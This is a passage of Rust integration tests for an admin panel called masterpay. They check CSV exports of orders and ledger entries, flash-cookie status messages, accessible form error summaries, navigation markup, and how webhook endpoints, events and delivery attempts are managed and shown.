    std::fs::write(format!("/proc/{}/clear_refs", server.id()), "5").expect("reset the peak");
    let before = peak_rss_kib(server.id());
    let csv = browser.get(&export).await;
    let peak = peak_rss_kib(server.id());
    let code = status_kib(server.id(), "RssFile:");
    eprintln!(
        "peak RSS of the server: {before} KiB before the export, {peak} KiB after, {code} KiB of it files"
    );
    let _ = server.kill();
    let _ = server.wait();

    csv.assert_status(200);
    assert_eq!(
        csv.header("content-disposition"),
        Some(r#"attachment; filename="masterpay-orders.csv""#)
    );
    let mut reader = csv::Reader::from_reader(csv.text.as_bytes());
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        [
            "order_id",
            "project_id",
            "user_id",
            "server_id",
            "amount",
            "status",
            "payment_system",
            "payment_id",
            "created_at",
            "completed_at",
            "cancelled_at"
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("a row")).collect();
    assert_eq!(rows.len(), 100_000);
    assert!(rows.iter().all(|row| &row[5] == "pending"));
    assert_eq!((&rows[0][0], &rows[0][4]), ("Order:P0000099999", "1010.49"));
    let last = &rows[99_999];
    assert_eq!((&last[0], &last[4]), ("Order:P0000000000", "10.50"));
    let marked = rows
        .iter()
        .find(|row| &row[0] == "Order:P0000004242")
        .unwrap();
    assert_eq!(&marked[7], format!("'{formula}"));
    assert!(
        peak - code < 48 * 1024,
        "the server's peak RSS while exporting: {peak} KiB, {code} KiB of it files"
    );
}

/// The ledger's export holds the entries its filters keep, newest first,
/// amounts in exact decimals (a negative change stays a number), and its
/// button carries the filters.
async fn the_ledger_export_holds_the_filtered_entries_in_exact_decimals(panel: Panel) {
    use entity::operation_log::{BalanceType, LogKind};
    let app = &panel.app;
    let user = app.user("ledger@example.com").await;
    let other = app.user("other@example.com").await;
    let log_row = |user_id: i64, cents: i64| entity::operation_log::ActiveModel {
        kind: Set(LogKind::BalanceSet),
        order_ref: Set(None),
        user_id: Set(user_id),
        server_id: Set(0),
        balance_type: Set(BalanceType::Main),
        amount_cents: Set(cents),
        balance_before_cents: Set(10_000),
        balance_after_cents: Set(10_000 + cents),
        created_at: Set(Utc::now()),
        ..Default::default()
    };
    open_general_account(app, user).await;
    open_general_account(app, other).await;
    for (user_id, cents) in [(user, -150), (user, 1999), (other, 7), (user, 5)] {
        log_row(user_id, cents).insert(&app.db).await.unwrap();
    }
    let mut browser = panel.signed_in().await;
    let list = browser.get(&format!("/ledger?user={user}")).await;
    let export = link_of(&list, "Export CSV").expect("an Export CSV button");
    assert_eq!(export, format!("/ledger.csv?user={user}"));
    let csv = browser.get(&export).await;
    csv.assert_status(200);
    assert_eq!(
        csv.header("content-disposition"),
        Some(r#"attachment; filename="masterpay-ledger.csv""#)
    );
    let mut lines = csv.text.lines();
    assert_eq!(
        lines.next(),
        Some(
            "id,at,project_id,user_id,server_id,balance_type,kind,change,balance_before,balance_after,order_id"
        )
    );
    let amounts: Vec<String> = lines
        .map(|line| {
            line.split(',')
                .skip(7)
                .take(3)
                .collect::<Vec<_>>()
                .join(" ")
        })
        .collect();
    assert_eq!(
        amounts,
        [
            "0.05 100.00 100.05",
            "19.99 100.00 119.99",
            "-1.50 100.00 98.50"
        ]
    );
}
// ---- what the pages tell the operator ----

/// The flash cookie of the default (not Secure) panel.
const FLASH: &str = "masterpay_flash";

/// What a page says a change did (its status messages).
fn said(page: &Page) -> Vec<String> {
    Regex::new(r#"<p class="notice" role="status">([^<]*)</p>"#)
        .unwrap()
        .captures_iter(&page.text)
        .map(|c| c[1].to_owned())
        .collect()
}

/// The summary of a refused form: its heading, and its links (target,
/// text).
fn error_summary(page: &Page) -> Option<(String, Vec<(String, String)>)> {
    let summary = Regex::new(
        r#"(?s)<div class="error-summary" role="alert"><h2>([^<]*)</h2><ul>(.*?)</ul></div>"#,
    )
    .unwrap();
    let link = Regex::new(r#"<a href="([^"]+)">([^<]*)</a>"#).unwrap();
    let found = summary.captures(&page.text)?;
    let links = link
        .captures_iter(&found[2])
        .map(|c| (c[1].to_owned(), c[2].to_owned()))
        .collect();
    Some((found[1].to_owned(), links))
}

/// The opening tag of the page's element named `name`.
#[track_caller]
fn element_named<'a>(page: &'a Page, name: &str) -> &'a str {
    let re = Regex::new(&format!(
        r#"<(input|select|fieldset)[^>]*name="{name}"[^>]*>"#
    ))
    .unwrap();
    re.find(&page.text)
        .unwrap_or_else(|| panic!("no {name} in {}", page.text))
        .as_str()
}

impl Browser {
    /// Follows `answer`, the redirect of a change, to its page, which must
    /// say `message` once; the flash cookie that carried it is the panel's
    /// kind of cookie, lasts about a minute and is deleted by that page.
    async fn follow_saying(&mut self, answer: Page, message: &str) -> Page {
        assert_eq!(answer.status, 303, "{message}: {}", answer.text);
        let flash = answer
            .set_cookie(FLASH)
            .unwrap_or_else(|| panic!("{message}: no flash cookie: {:?}", answer.headers));
        assert!(flash.has("httponly"), "{flash:?}");
        assert_eq!(flash.attribute("samesite"), Some("Strict"), "{flash:?}");
        assert_eq!(flash.attribute("path"), Some("/"), "{flash:?}");
        let seconds: u32 = flash
            .attribute("max-age")
            .expect("max-age")
            .parse()
            .unwrap();
        assert!((10..=120).contains(&seconds), "{flash:?}");
        let to = answer.header("location").expect("location").to_owned();
        let page = self.get(&to).await;
        page.assert_status(200);
        assert_eq!(said(&page), [message], "{to}: {}", page.text);
        let deleted = page.set_cookie(FLASH).expect("the page deletes the flash");
        assert_eq!(deleted.attribute("max-age"), Some("0"), "{deleted:?}");
        assert!(self.other_cookie(FLASH).is_none());
        assert!(said(&self.get(&to).await).is_empty(), "{to}: said twice");
        page
    }
}

async fn a_refused_form_is_summarized_at_the_top_with_links_to_its_fields(panel: Panel) {
    let seeded = panel.seed().await;
    let mut browser = panel.signed_in().await;
    let page = format!("/tokens/{}", seeded.token_id);
    assert!(error_summary(&browser.get(&page).await).is_none());

    // The delete form, low on the page, with a wrong name.
    let answer = browser
        .submit(
            &page,
            &format!("{page}/delete"),
            &[("confirm_name", "wrong")],
        )
        .await;
    answer.assert_status(422);
    let (heading, links) = error_summary(&answer).expect("a summary");
    assert_eq!(heading, "Nothing was changed: 1 problem");
    assert_eq!(links.len(), 1, "{links:?}");
    assert_eq!(links[0].0, "#confirm_name");
    let message = answer
        .field_error("confirm_name")
        .expect("the field's error");
    assert_eq!(links[0].1, format!("Confirm name: {message}"));
    let input = element_named(&answer, "confirm_name");
    for attribute in [
        r#"id="confirm_name""#,
        r#"aria-invalid="true""#,
        r#"aria-describedby="confirm_name-error""#,
    ] {
        assert!(input.contains(attribute), "{attribute} in {input}");
    }
    // At the top of the page's content: right after its heading, before
    // any of its forms.
    let main = answer.text.find("<main>").expect("main");
    let summary = answer.text.find("error-summary").unwrap();
    let first_form = main + answer.text[main..].find("<form").unwrap();
    assert!(main < summary && summary < first_form);
    assert!(answer.text[main..summary].contains("</h1>"));

    // Two problems in the edit form: each linked, each input marked.
    let answer = browser
        .submit(&page, &format!("{page}/edit"), &[("name", "")])
        .await;
    answer.assert_status(422);
    let (heading, links) = error_summary(&answer).expect("a summary");
    assert_eq!(heading, "Nothing was changed: 2 problems");
    let targets: Vec<&str> = links.iter().map(|(href, _)| href.as_str()).collect();
    assert_eq!(targets, ["#name", "#permissions"]);
    assert!(element_named(&answer, "name").contains(r#"aria-describedby="name-error""#));
    let fieldset = Regex::new(r#"<fieldset[^>]*>"#).unwrap();
    let fieldset = fieldset.find(&answer.text).unwrap().as_str();
    assert!(
        fieldset.contains(r#"id="permissions""#)
            && fieldset.contains(r#"aria-describedby="permissions-error""#),
        "{fieldset}"
    );

    // A form's own error (no field to blame) links to its message.
    let refused = panel.browser().sign_in(ADMIN, "not the password").await;
    refused.assert_status(401);
    let (_, links) = error_summary(&refused).expect("a summary");
    assert_eq!(links.len(), 1);
    assert_eq!(links[0].0, "#form-error");
    assert!(refused.text.contains(r#"id="form-error""#));

    // A bad filter of a list page too.
    let answer = browser.get("/ledger?from=yesterday").await;
    answer.assert_status(422);
    let (_, links) = error_summary(&answer).expect("a summary");
    assert_eq!(links[0].0, "#from");
    assert!(element_named(&answer, "from").contains(r#"id="from""#));
}

async fn every_change_says_what_it_did_on_the_page_it_leads_to(panel: Panel) {
    let seeded = panel.seed().await;
    let pid = panel.app.project_id;
    let mut b = panel.browser();
    let answer = b.sign_in(ADMIN, PASSWORD).await;
    b.follow_saying(answer, "Signed in.").await;

    // Projects.
    let answer = b
        .submit("/projects", "/projects", &[("name", "Said")])
        .await;
    let new = panel.projects().await.last().unwrap().id;
    b.follow_saying(answer, &format!("Project {new} created."))
        .await;
    let page = format!("/projects/{new}");
    let answer = b
        .submit(&page, &format!("{page}/rename"), &[("name", "Said again")])
        .await;
    b.follow_saying(answer, &format!("Project {new} renamed."))
        .await;
    for (active, done) in [("false", "disabled"), ("true", "enabled")] {
        let answer = b
            .submit(&page, &format!("{page}/active"), &[("active", active)])
            .await;
        b.follow_saying(answer, &format!("Project {new} {done}."))
            .await;
    }

    // Tokens: a creation and a reissue answer with the value's page, which
    // says it at once.
    let answer = b
        .submit(
            &format!("/projects/{pid}/tokens/new"),
            &format!("/projects/{pid}/tokens"),
            &[("name", "Said"), ("permission", "master-account/balance")],
        )
        .await;
    answer.assert_status(200);
    let token = panel.token_row_named("Said").await.id;
    assert_eq!(said(&answer), [format!("Token {token} created.")]);
    let page = format!("/tokens/{token}");
    let fields = [("name", "Said 2"), ("permission", "master-account/balance")];
    let answer = b.submit(&page, &format!("{page}/edit"), &fields).await;
    b.follow_saying(answer, &format!("Token {token} saved."))
        .await;
    for (active, done) in [("false", "disabled"), ("true", "enabled")] {
        let answer = b
            .submit(&page, &format!("{page}/active"), &[("active", active)])
            .await;
        b.follow_saying(answer, &format!("Token {token} {done}."))
            .await;
    }
    let answer = b
        .submit(&page, &format!("{page}/reissue"), &[("grace_hours", "1")])
        .await;
    answer.assert_status(200);
    assert_eq!(said(&answer), [format!("Token {token} reissued.")]);
    let answer = b.submit(&page, &format!("{page}/end-grace"), &[]).await;
    b.follow_saying(
        answer,
        &format!("Token {token}: the old value no longer works."),
    )
    .await;
    // Administrators: invited (the answer is the page), disabled, enabled.
    let answer = b.submit("/admins", "/admins", &[("name", "told")]).await;
    answer.assert_status(200);
    assert_eq!(said(&answer), ["Administrator told invited."]);
    let told = administrator::Entity::find()
        .filter(administrator::Column::Name.eq("told"))
        .one(&panel.app.db)
        .await
        .unwrap()
        .unwrap()
        .id;
    for (active, done) in [("false", "disabled"), ("true", "enabled")] {
        let answer = b
            .submit(
                "/admins",
                &format!("/admins/{told}/active"),
                &[("active", active)],
            )
            .await;
        b.follow_saying(answer, &format!("Administrator told {done}."))
            .await;
    }
    let answer = b
        .submit(
            &page,
            &format!("{page}/delete"),
            &[("confirm_name", "Said 2")],
        )
        .await;
    b.follow_saying(answer, &format!("Token {token} deleted."))
        .await;

    // Users, servers, balances.
    let users = format!("/projects/{pid}/users");
    let answer = b
        .submit(&users, &users, &[("email", "said@example.com")])
        .await;
    let user = answer.header("location").unwrap().replace("/users/", "");
    b.follow_saying(answer, &format!("User {user} created."))
        .await;
    let answer = b
        .submit(
            &users,
            &format!("/projects/{pid}/servers"),
            &[("server_name", "Said")],
        )
        .await;
    let server = entity::server::Entity::find()
        .filter(entity::server::Column::Name.eq("Said"))
        .one(&panel.app.db)
        .await
        .unwrap()
        .expect("the server")
        .id;
    b.follow_saying(answer, &format!("Server {server} created."))
        .await;
    let page = format!("/users/{user}");
    let balance = [("server", "0"), ("main", "5.00"), ("reason", "said")];
    let answer = b.submit(&page, &format!("{page}/balance"), &balance).await;
    b.follow_saying(answer, &format!("Balance of user {user} set."))
        .await;

    // Orders: one created and cancelled, the seeded one completed.
    let pid_text = pid.to_string();
    let order = [
        ("project", pid_text.as_str()),
        ("user", user.as_str()),
        ("server", "0"),
        ("amount", "1.00"),
        ("payment_system", "cstm:panel"),
    ];
    let answer = b.submit("/orders", "/orders", &order).await;
    let page = answer.header("location").unwrap().to_owned();
    let order_id = page.rsplit('/').next().unwrap().to_owned();
    b.follow_saying(answer, &format!("Order {order_id} created."))
        .await;
    let answer = b.submit(&page, &format!("{page}/cancel"), &[]).await;
    b.follow_saying(answer, &format!("Order {order_id} cancelled."))
        .await;
    let page = format!("/orders/{pid}/{}", seeded.order_id);
    let answer = b.submit(&page, &format!("{page}/complete"), &[]).await;
    let done = format!("Order {} completed.", seeded.order_id);
    b.follow_saying(answer, &done).await;

    // The ledger's audit, the password, signing out and in by a link.
    let answer = b.submit("/ledger/audit", "/ledger/audit", &[]).await;
    b.follow_saying(answer, "Ledger audit run.").await;
    let new_password = "a new password, long enough";
    let change = [
        ("current_password", PASSWORD),
        ("password", new_password),
        ("password_again", new_password),
    ];
    let answer = b.submit("/account", "/account/password", &change).await;
    let done = "Your password was changed; your other sessions were ended.";
    b.follow_saying(answer, done).await;
    let answer = b.submit("/account", "/sign-out", &[]).await;
    b.follow_saying(answer, "Signed out.").await;
    let link = panel.login_link(ADMIN).await;
    let csrf = b.get(&format!("/sign-in/link/{link}")).await.csrf();
    let answer = b
        .post("/sign-in/link", &[("csrf", &csrf), ("link", &link)])
        .await;
    b.follow_saying(answer, "Signed in.").await;
}

async fn the_navigation_marks_the_current_page_and_tables_scroll_in_their_wrappers(panel: Panel) {
    let seeded = panel.seed().await;
    let mut browser = panel.signed_in().await;
    let marked = Regex::new(r#"<a [^>]*href="([^"]*)"[^>]*aria-current="([^"]+)""#).unwrap();
    let token = format!("/tokens/{}", seeded.token_id);
    for (page, link, current) in [
        ("/", "/", "page"),
        ("/projects", "/projects", "page"),
        (&token, "/projects", "true"),
        ("/orders?status=pending", "/orders", "page"),
        ("/ledger/audit", "/ledger", "true"),
        ("/audit-log", "/audit-log", "page"),
        ("/account", "/account", "page"),
    ] {
        let answer = browser.get(page).await;
        answer.assert_status(200);
        let found: Vec<(String, String)> = marked
            .captures_iter(&answer.text)
            .map(|c| (c[1].to_owned(), c[2].to_owned()))
            .collect();
        assert_eq!(found, [(link.to_owned(), current.to_owned())], "{page}");
    }
    for page in panel.pages(&seeded) {
        let answer = browser.get(&page).await;
        let tables = answer.text.matches("<table").count();
        let wrapped = answer
            .text
            .matches(r#"<div class="table-wrap"><table"#)
            .count();
        assert_eq!(tables, wrapped, "{page}: a table outside its wrapper");
    }
}

// ---- webhook endpoints and events ----

/// The signing secret an endpoint's page shows, when it shows one.
fn shown_secret(page: &Page) -> Option<String> {
    let re = Regex::new(r#"id="webhook-secret"[^>]*>\s*(whsec_[A-Za-z0-9+/=]+)\s*<"#).unwrap();
    re.captures(&page.text).map(|c| c[1].to_owned())
}

async fn endpoint_rows(panel: &Panel) -> Vec<entity::webhook_endpoint::Model> {
    entity::webhook_endpoint::Entity::find()
        .all(&panel.app.db)
        .await
        .expect("endpoints")
}

async fn webhook_endpoints_are_created_edited_toggled_and_deleted_in_the_panel(panel: Panel) {
    let mut browser = panel.signed_in().await;
    let list = format!("/projects/{}/webhooks", panel.app.project_id);
    let refused = browser
        .submit(
            &list,
            &list,
            &[("url", "ftp://hooks.example.com/in"), ("every_type", "on")],
        )
        .await;
    refused.assert_status(422);
    assert!(
        refused.field_error("url").unwrap().contains("http://"),
        "{}",
        refused.text
    );
    let refused = browser
        .submit(&list, &list, &[("url", "https://hooks.example.com/in")])
        .await;
    refused.assert_status(422);
    assert!(
        refused.field_error("event_types").is_some(),
        "{}",
        refused.text
    );
    assert!(endpoint_rows(&panel).await.is_empty());

    let created = browser
        .submit(
            &list,
            &list,
            &[
                ("url", "https://hooks.example.com/in"),
                ("description", "shop backend"),
                ("event_type", "order.completed"),
                ("event_type", "order.cancelled"),
            ],
        )
        .await;
    created.assert_status(200);
    let rows = endpoint_rows(&panel).await;
    assert_eq!(rows.len(), 1);
    let e = &rows[0];
    assert_eq!(
        e.event_types.as_deref(),
        Some("order.completed,order.cancelled")
    );
    assert_eq!(e.description, "shop backend");
    let path = format!("/webhooks/{}", e.id);
    assert!(
        created.text.contains(&format!(r#"data-address="{path}""#)),
        "{}",
        created.text
    );
    let secret = shown_secret(&created).unwrap_or_else(|| panic!("no secret: {}", created.text));
    assert_eq!(created.text.matches(&secret).count(), 1, "shown once");
    // Never again: not on its page, not on the list, not in the audit log.
    for page in [&path, &list] {
        let again = browser.get(page).await;
        again.assert_status(200);
        assert!(!again.text.contains(&secret), "{page}: {}", again.text);
        assert!(shown_secret(&again).is_none(), "{page}");
    }
    assert!(!panel.panel_tables_text().await.contains(&secret));
    let object = e.id.to_string();
    let as_created = json!({
        "project_id": panel.app.project_id,
        "url": "https://hooks.example.com/in",
        "description": "shop backend",
        "event_types": "order.completed,order.cancelled",
        "enabled": true,
        "disabled_reason": null,
    });
    panel.check_row(
        &panel.audit_of("webhook_endpoint.create", &object).await,
        None,
        Some(as_created.clone()),
    );

    let edited = browser
        .submit(
            &path,
            &format!("{path}/edit"),
            &[
                ("url", "https://hooks.example.com/v2"),
                ("every_type", "on"),
            ],
        )
        .await;
    edited.assert_redirect(&path);
    let as_edited = json!({
        "project_id": panel.app.project_id,
        "url": "https://hooks.example.com/v2",
        "description": "",
        "event_types": null,
        "enabled": true,
        "disabled_reason": null,
    });
    panel.check_row(
        &panel.audit_of("webhook_endpoint.edit", &object).await,
        Some(as_created),
        Some(as_edited.clone()),
    );

    browser
        .submit(&path, &format!("{path}/active"), &[("active", "false")])
        .await
        .assert_redirect(&path);
    let mut as_disabled = as_edited.clone();
    as_disabled["enabled"] = json!(false);
    as_disabled["disabled_reason"] = json!("disabled by an administrator");
    panel.check_row(
        &panel.audit_of("webhook_endpoint.disable", &object).await,
        Some(as_edited.clone()),
        Some(as_disabled.clone()),
    );
    for page in [&path, &list] {
        let shown = browser.get(page).await;
        assert!(
            shown.text.contains("disabled by an administrator"),
            "{page}: {}",
            shown.text
        );
    }
    browser
        .submit(&path, &format!("{path}/active"), &[("active", "true")])
        .await
        .assert_redirect(&path);
    panel.check_row(
        &panel.audit_of("webhook_endpoint.enable", &object).await,
        Some(as_disabled),
        Some(as_edited.clone()),
    );

    let kept = browser
        .submit(
            &path,
            &format!("{path}/delete"),
            &[("confirm_name", "https://hooks.example.com/in")],
        )
        .await;
    kept.assert_status(422);
    assert!(kept.field_error("confirm_name").is_some(), "{}", kept.text);
    assert_eq!(endpoint_rows(&panel).await.len(), 1);
    browser
        .submit(
            &path,
            &format!("{path}/delete"),
            &[("confirm_name", "https://hooks.example.com/v2")],
        )
        .await
        .assert_redirect(&list);
    assert!(endpoint_rows(&panel).await.is_empty());
    panel.check_row(
        &panel.audit_of("webhook_endpoint.delete", &object).await,
        Some(as_edited),
        None,
    );
}

/// The ids of the events a list page links to, in its order.
fn listed_events(page: &Page) -> Vec<i64> {
    let re = Regex::new(r#"<td class="num"><a href="/events/(\d+)""#).unwrap();
    re.captures_iter(&page.text)
        .map(|c| c[1].parse().unwrap())
        .collect()
}

async fn events_are_listed_filtered_and_shown_with_their_deliveries_and_attempts(panel: Panel) {
    use entity::{webhook_attempt, webhook_delivery, webhook_event};
    let app = &panel.app;
    let endpoint = masterpay::service::webhook_endpoints::create(
        &app.db,
        None,
        &Default::default(),
        &Actor::CommandLine,
        app.project_id,
        "https://receiver.example.com/events",
        None,
        None,
    )
    .await
    .unwrap()
    .0;
    let token = app.full_token().await;
    let user = app.user("alice@example.com").await;
    let first = app.order(user, None, "1.00", "cstm:paygate").await;
    let second = app.order(user, None, "2.00", "cstm:paygate").await;
    assert_eq!(
        app.complete_order(&token, &first, "cstm:paygate")
            .await
            .status,
        200
    );
    let events = webhook_event::Entity::find()
        .order_by_asc(webhook_event::Column::Id)
        .all(&app.db)
        .await
        .unwrap();
    let ids: Vec<i64> = events.iter().map(|e| e.id).collect();
    assert_eq!(ids.len(), 3, "{events:?}");
    let (created_first, created_second, completed) = (ids[0], ids[1], ids[2]);

    // The relay's record of one delivery: a 500, then a success.
    let delivery = webhook_delivery::Entity::find()
        .filter(webhook_delivery::Column::EventId.eq(completed))
        .one(&app.db)
        .await
        .unwrap()
        .unwrap();
    let at = Utc::now();
    for (status, excerpt, ms) in [
        (500, "busy-retry-later", 1250),
        (200, "ok-from-receiver", 37),
    ] {
        webhook_attempt::ActiveModel {
            delivery_id: Set(delivery.id),
            attempted_at: Set(at),
            duration_ms: Set(ms),
            response_status: Set(Some(status)),
            outcome: Set(if status == 200 {
                webhook_attempt::AttemptOutcome::Succeeded
            } else {
                webhook_attempt::AttemptOutcome::HttpError
            }),
            response_excerpt: Set(excerpt.to_owned()),
            next_attempt_at: Set(None),
            ..Default::default()
        }
        .insert(&app.db)
        .await
        .unwrap();
    }
    let mut done: webhook_delivery::ActiveModel = delivery.into();
    done.status = Set(webhook_delivery::DeliveryStatus::Succeeded);
    done.attempts = Set(2);
    done.next_attempt_at = Set(None);
    done.last_attempt_at = Set(Some(at));
    done.update(&app.db).await.unwrap();

    let mut browser = panel.signed_in().await;
    let list = format!("/projects/{}/events", app.project_id);
    for (query, expected) in [
        ("", vec![completed, created_second, created_first]),
        ("?type=order.completed", vec![completed]),
        ("?type=order.created", vec![created_second, created_first]),
        ("?status=succeeded", vec![completed]),
        ("?status=pending", vec![created_second, created_first]),
        ("?status=failed", vec![]),
        (&format!("?order_id={second}"), vec![created_second]),
        (&format!("?type=order.completed&order_id={second}"), vec![]),
    ] {
        let page = browser.get(&format!("{list}{query}")).await;
        page.assert_status(200);
        assert_eq!(listed_events(&page), expected, "{query}: {}", page.text);
    }
    let refused = browser.get(&format!("{list}?type=order.lost")).await;
    refused.assert_status(422);
    assert!(refused.field_error("type").is_some(), "{}", refused.text);
    assert!(listed_events(&refused).is_empty());

    let shown = browser.get(&format!("/events/{completed}")).await;
    shown.assert_status(200);
    let event = events.iter().find(|e| e.id == completed).unwrap();
    for expected in [
        event.webhook_id.as_str(),
        first.as_str(),
        "https://receiver.example.com/events",
        "busy-retry-later",
        "1250 ms",
        "ok-from-receiver",
        "37 ms",
        "<td class=\"num\">500</td>",
        "<td class=\"num\">200</td>",
        "http_error",
        "succeeded",
        &format!("/webhooks/{}", endpoint.id),
    ] {
        assert!(shown.text.contains(expected), "{expected}: {}", shown.text);
    }
    // The body exactly as sent, escaped.
    let escaped = event.payload.replace('&', "&amp;").replace('"', "&quot;");
    assert!(shown.text.contains(&escaped), "{}", shown.text);
    let pending = browser.get(&format!("/events/{created_first}")).await;
    assert!(
        pending.text.contains("Not attempted yet."),
        "{}",
        pending.text
    );
}
